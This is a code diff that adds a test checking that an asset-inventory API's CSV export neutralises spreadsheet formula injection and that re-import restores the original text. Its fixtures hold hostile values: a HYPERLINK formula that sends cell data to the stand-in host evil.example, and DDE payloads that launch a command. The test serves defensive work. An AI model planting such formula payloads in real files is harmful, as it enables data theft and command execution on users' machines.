@@ -373,6 +373,51 @@ async def test_an_export_can_be_imported_again(
         assert copy["status"] == "in_stock"
 
 
+async def test_export_quotes_text_a_spreadsheet_would_run_and_import_takes_the_quote_off(
+    client: httpx.AsyncClient, manager: dict[str, str], make: Factory
+) -> None:
+    category = await make.category(code="INJECT")
+    risky = await make.asset(
+        category,
+        name='=HYPERLINK("http://evil.example/?d="&A1,"Open")',
+        serial_number="+cmd|' /C calc'!A0",
+        location="-2+3",
+        notes="@SUM(1+1)*cmd|' /C calc'!A0",
+        purchase_cost="1200.00",
+    )
+    quoted = await make.asset(category, name="'=already quoted", notes="plain notes")
+    text_fields = ("name", "serial_number", "location", "notes")
+
+    exported = await client.get(EXPORT, params={"category_id": category["id"]}, headers=manager)
+
+    assert exported.status_code == 200, exported.text
+    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(exported.text))}
+    for row in rows.values():
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    for field in text_fields:
+        assert rows[risky["id"]][field] == "'" + risky[field], field
+    assert rows[quoted["id"]]["name"] == "''=already quoted"
+    assert rows[quoted["id"]]["notes"] == "plain notes"
+    # Numbers are written as numbers: no quote in front of an amount or an id.
+    assert Decimal(rows[risky["id"]]["purchase_cost"]) == Decimal("1200.00")
+    assert Decimal(rows[risky["id"]]["book_value"]) == money(risky["book_value"])
+
+    for row in rows.values():
+        row["asset_tag"] = "RT-" + row["asset_tag"]
+    response = await upload(client, manager, to_csv(list(rows.values()), EXPORT_COLUMNS))
+
+    assert response.status_code == 201, response.text
+    copies = {}
+    for asset_id in response.json()["ids"]:
+        copy = (await client.get(f"{ASSETS}/{asset_id}", headers=manager)).json()
+        copies[copy["asset_tag"]] = copy
+    for original in (risky, quoted):
+        copy = copies["RT-" + original["asset_tag"]]
+        for field in (*text_fields, "purchase_cost", "book_value"):
+            assert copy[field] == original[field], field
+
+
 async def test_csv_access(client: httpx.AsyncClient, tokens: Any, make: Factory) -> None:
     await make.category(code="TOOL")
     content = b"name,category_code,purchase_date,purchase_cost\nSaw,TOOL,2024-01-01,1.00\n"
